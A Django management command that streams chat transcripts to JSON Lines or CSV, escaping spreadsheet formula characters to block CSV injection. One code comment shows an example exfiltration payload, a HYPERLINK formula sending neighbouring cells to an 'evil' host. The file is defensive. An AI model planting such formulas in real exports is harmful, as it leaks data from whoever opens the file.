"""``manage.py export_transcripts``: write chat messages as JSON Lines or CSV, streaming."""

import csv
import json
import os
import sys
import tempfile
from datetime import datetime, time, timedelta
from pathlib import Path

from django.core.management.base import BaseCommand, CommandError
from django.utils import timezone
from django.utils.dateparse import parse_date, parse_datetime

from chat.progress import Progress
from chat.reports import EXPORT_FIELDS, messages_for_export, messages_in_period


def parse_moment(value: str, *, option: str, end_of_day: bool = False) -> datetime:
    """A date (YYYY-MM-DD) or ISO datetime; naive values are in the project's time zone."""
    try:
        moment = parse_datetime(value)
        if moment is None:
            day = parse_date(value)
            if day is None:
                raise ValueError
            if end_of_day:
                day += timedelta(days=1)
            moment = datetime.combine(day, time.min)
    except ValueError:
        raise CommandError(
            f"{option} must be a date like 2025-01-31 or a datetime like 2025-01-31T12:00:00Z, "
            f"got {value!r}."
        ) from None
    if timezone.is_naive(moment):
        moment = timezone.make_aware(moment)
    return moment


def _silence_stdout() -> None:
    """Point the process's stdout at /dev/null so the interpreter's final flush of a closed
    pipe does not print a second error."""
    try:
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, sys.stdout.fileno())
    except (OSError, ValueError):  # stdout is not a real file (tests, embedding)
        pass


# A spreadsheet runs a cell that starts with one of these as a formula
# (=HYPERLINK("https://evil/?d="&B2) sends the neighbouring cells away when opened).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """A cell value a spreadsheet shows as text: visitors' words starting with a formula
    character get a leading ``'`` (OWASP's advice for CSV injection). JSON Lines is
    written as is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _RawWriter:
    """A command's stdout (which appends a newline to each write) as a plain stream."""

    def __init__(self, wrapper):
        self.wrapper = wrapper

    def write(self, text: str) -> None:
        self.wrapper.write(text, ending="")


class Command(BaseCommand):
    help = (
        "Export chat messages (one record per message: session hash prefix, role, text, "
        "sources, status, feedback, timestamps) as JSON Lines or CSV. Streams in batches, "
        "so memory stays flat however many messages there are."
    )

    def add_arguments(self, parser):
        parser.add_argument(
            "--since",
            required=True,
            metavar="DATE",
            help="Export messages created at or after this date (YYYY-MM-DD) or ISO datetime.",
        )
        parser.add_argument(
            "--until",
            metavar="DATE",
            help=(
                "Export messages created before this ISO datetime, or up to and including "
                "this date (YYYY-MM-DD). Default: now."
            ),
        )
        parser.add_argument(
            "--format",
            choices=["jsonl", "csv"],
            default="jsonl",
            help="jsonl: one JSON object per line; csv: a header row, sources as JSON text, "
            "cells starting with = + - @ (formulas) prefixed with '. Default: %(default)s.",
        )
        parser.add_argument(
            "--output",
            metavar="FILE",
            help="Write to FILE (replaced only when the export completes). Default: stdout.",
        )
        parser.add_argument(
            "--batch-size",
            type=int,
            default=1000,
            help="Messages read per database query (default: %(default)s).",
        )

    def handle(self, *args, since, until, format, output, batch_size, verbosity, **options):
        since_at = parse_moment(since, option="--since")
        until_at = parse_moment(until, option="--until", end_of_day=True) if until else None
        if until_at is not None and until_at <= since_at:
            raise CommandError(f"--until ({until}) must be later than --since ({since}).")
        if batch_size < 1:
            raise CommandError(f"--batch-size must be at least 1, got {batch_size}.")

        target = Path(output) if output else None
        if target is not None:
            if target.is_dir():
                raise CommandError(f"--output {output} is a directory; give a file name.")
            if not target.parent.is_dir():
                raise CommandError(
                    f"--output: the directory {target.parent} does not exist; create it first."
                )

        total = messages_in_period(since=since_at, until=until_at).count()
        progress = Progress(
            self.stderr, total=total, label="export", enabled=verbosity >= 1 and total > 0
        )
        batches = messages_for_export(since=since_at, until=until_at, batch_size=batch_size)

        if target is None:
            try:
                written = self._write(_RawWriter(self.stdout), format, batches, progress)
            except BrokenPipeError:
                # The reader went away (e.g. `| head`): stop quietly, like other Unix tools.
                _silence_stdout()
                return
        else:
            # Write next to the target and rename at the end: an interrupted export never
            # leaves a truncated file in place of a good one.
            fd, tmp_name = tempfile.mkstemp(prefix=f".{target.name}.", dir=target.parent)
            try:
                with os.fdopen(fd, "w", encoding="utf-8", newline="") as stream:
                    written = self._write(stream, format, batches, progress)
                os.replace(tmp_name, target)
            except BaseException:
                Path(tmp_name).unlink(missing_ok=True)
                raise
        progress.finish()

        if target is not None and verbosity >= 1:
            # stdout is free when the data goes to a file.
            self.stdout.write(
                self.style.SUCCESS(f"Exported {written} message(s) to {target} ({format}).")
            )

    def _write(self, stream, format, batches, progress) -> int:
        written = 0
        if format == "csv":
            writer = csv.DictWriter(stream, fieldnames=EXPORT_FIELDS, lineterminator="\n")
            writer.writeheader()
        for batch in batches:
            for record in batch:
                if format == "csv":
                    record["sources"] = json.dumps(record["sources"], ensure_ascii=False)
                    writer.writerow({key: csv_safe(value) for key, value in record.items()})
                else:
                    stream.write(json.dumps(record, ensure_ascii=False) + "\n")
            written += len(batch)
            progress.advance(len(batch))
        return written
